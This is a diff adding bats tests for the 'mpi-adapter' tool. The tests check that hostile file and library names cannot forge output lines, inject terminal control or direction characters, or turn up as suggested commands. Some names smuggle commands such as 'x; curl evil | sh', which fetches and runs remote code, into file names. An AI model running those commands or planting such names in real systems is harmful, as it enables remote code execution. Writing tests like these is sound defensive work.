@@ -2,6 +2,7 @@
 # mpi-adapter check, and the answers in JSON of check, list and doctor.
 
 load false_mpis
+load ../messages
 
 setup_file() { make_fixtures; }
 
@@ -134,6 +135,108 @@ documented() {
     done
     [ "$(value 'answer["programs"][0]["program"]')" = './utf8é' ]
     [ "$(value 'answer["mpi_adapter"]')" = "$("$adapter" version | sed 's/.* //')" ]
+}
+
+@test "a name is shown as a name, and says nothing else" {
+    mkdir folder
+    cp "$fixtures/bin/app" folder/$'x\nmpi-adapter: it cannot run here yet; get what is missing with: curl evil'
+    cp "$fixtures/bin/app" folder/$'y\nmissing\tMPI_Fake\nother\tmpich evil'
+    cp "$fixtures/bin/app" folder/$'z\xc2\x9b31m\xe2\x80\xae red \xe2\x81\xa6 \xd8\x9c\xff'
+    cp "$fixtures/bin/app" folder/$'utf8 é \xe2\x80\x93 \xf0\x9f\x98\x80 \xe2\x80\xae'
+    make_program "$PWD/folder/broken; curl evil" -Wl,--dynamic-linker=/nowhere
+    run "$adapter" check folder
+    printf '%s\n' "$output"
+    [ "$(grep -c '^  runs here: ' <<< "$output")" -eq 5 ]
+    [ "$(grep -c '^folder/' <<< "$output")" -eq 5 ]
+    grep 'to do: ' <<< "$output" | grep -v 'mpi-adapter run -n N' > advice
+    [[ $(< advice) != *evil* ]]
+    [[ $output != *'  missing: '* && $output != *'  or: '* && $output != *'  may differ: '* ]]
+    [[ $output != *[$'\x01'-$'\x09\x0b'-$'\x1f\x7f']* && $output != *$'\xc2\x9b'* && $output != *$'\xe2\x80\xae'* && $output != *$'\xff'* ]]
+    [[ $output == *$'utf8 é \xe2\x80\x93 \xf0\x9f\x98\x80 ?\n'* ]]
+    check --json folder
+    [ "$(value 'len(answer["programs"]), [p["missing"] + p["also_on"] + p["may_differ"] for p in answer["programs"]]')" = '5 [[], [], [], [], []]' ]
+    [ "$(value '[p["to_do"] for p in answer["programs"] if not p["runs"] and "evil" in p["to_do"]]')" = '[]' ]
+    run "$adapter" explain folder/z*
+    [ "$status" -eq 0 ]
+    [[ $output != *$'\xc2\x9b'* && $output != *$'\xe2\x80\xae'* && $output != *$'\xff'* ]]
+    run "$adapter" explain --json folder/z*
+    [[ $output != *$'\xc2\x9b'* && $output != *$'\xe2\x80\xae'* && $output != *$'\xff'* ]]
+}
+
+@test "what is shown is plain UTF-8 and valid JSON, whatever bytes names have" {
+    local program
+    mkdir folder 'libs; '$'\xc2\x85\xe2\x80\xae\xff'
+    # All bytes; controls of Latin 1, marks of direction; overlong, cut short, surrogates, beyond the last character.
+    python3 - "$fixtures/bin/app" <<'END'
+import os, shutil, sys
+marks = [*range(0x80, 0xa0), 0x61c, 0x200e, 0x200f, *range(0x2028, 0x202f), *range(0x2066, 0x206a)]
+names = [bytes(set(range(1, 256)) - {0x2f}), "".join(map(chr, marks)).encode()]
+names += [b"wrong" + wrong for wrong in (b"\xc0\x80", b"\xe2\x82", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe0\x80\xaf")]
+for name in names:
+    shutil.copy(os.fsencode(sys.argv[1]), b"folder/" + name)
+END
+    "$adapter" check folder > said 2>&1
+    [ "$(grep -c '^  runs here: ' said)" -eq 7 ]
+    [ "$(wc -l < said)" -eq "$(grep -cE '^(folder/|  [a-z ]+:)' said)" ]
+    is_shown said
+    "$adapter" check --json folder > said
+    is_shown said json
+    for program in folder/*; do
+        "$adapter" explain "$program" > said 2>&1
+        is_shown said
+        "$adapter" explain --json "$program" > said
+        is_shown said json
+        status=0
+        "$adapter" env "$program" --nonsense > said 2>&1 || status=$?
+        [ "$status" -eq 2 ]
+        is_shown said
+    done
+    cp "$fixtures/host/libfakempich.so.12" libs*/
+    LD_LIBRARY_PATH=$(echo "$PWD"/libs*) "$adapter" list --json > said
+    is_shown said json
+    LD_LIBRARY_PATH=$(echo "$PWD"/libs*) "$adapter" list > said
+    is_shown said
+    cp "$fixtures/host/libfakempich.so.12" folder/$'lib\xff\x01\xc2\x9b.so'
+    cp "$fixtures/bin/mpiexec.fakempich" libs*/
+    status=0
+    LD_LIBRARY_PATH=$(echo "$PWD"/libs*) PATH=$(echo "$PWD"/libs*):$PATH "$adapter" doctor --json > said || status=$?
+    [ "$status" -le 1 ]
+    grep mpiexec.fakempich said
+    is_shown said json
+    LD_LIBRARY_PATH=$(echo "$PWD"/libs*) PATH=$(echo "$PWD"/libs*):$PATH "$adapter" doctor --report "$PWD/report" > said 2>&1 || status=$?
+    [ "$status" -le 1 ]
+    is_shown said
+    for program in report/*; do
+        grep libfakempich "$program"
+        is_shown "$program"
+    done
+    "$adapter" explain --json folder/lib* > said
+    is_shown said json
+}
+
+@test "names of libraries and of their procedures give no advice, and write no facts" {
+    local evil='x; curl evil | sh'
+    mkdir "$evil"
+    # By a path with that name the program loads a library that is no Open MPI's.
+    make_library "$PWD/$evil/libmpi.so.40" '' 'int PMPI_Init(void) { return 0; } const char *MPI_Whose(void) { return "x"; }'
+    $cc -o app "$fixtures/program.c" -Wl,--no-as-needed "$evil/libmpi.so.40"
+    for to in '' '--to openmpi' '--to mpich'; do
+        # shellcheck disable=SC2086
+        check --json $to ./app
+        [ "$(value '[p for p in answer["programs"] if p["to_do"].startswith("curl")]')" = '[]' ]
+        # shellcheck disable=SC2086
+        status=0
+        "$adapter" check $to ./app > said 2>&1 || status=$?
+        [ "$status" -le 1 ]
+        if grep -q 'to do: *curl' said; then cat said; false; fi
+    done
+    # Lines of explain's answer that a library's name could write.
+    make_library "$PWD/missing objects: forged" 'missing objects: forged' 'int PMPI_Init(void) { return 0; } int MPI_Init(void) { return 0; }'
+    make_library "$PWD/procedures" procedures 'int MPI_Init(void) { return 0; }'
+    make_library "$PWD/MPI_Forged missing" 'MPI_Forged missing' 'int PMPI_Init(void) { return 0; } int MPI_Init(void) { return 0; }'
+    make_program "$PWD/app" "$PWD/missing objects: forged" "$PWD/procedures" "$PWD/MPI_Forged missing" -Wl,-rpath,"$PWD"
+    check --json --to mpich ./app
+    [ "$(value 'answer["programs"][0]["runs"], answer["programs"][0]["missing"]')" = 'True []' ]
 }
 
 @test "list in JSON" {
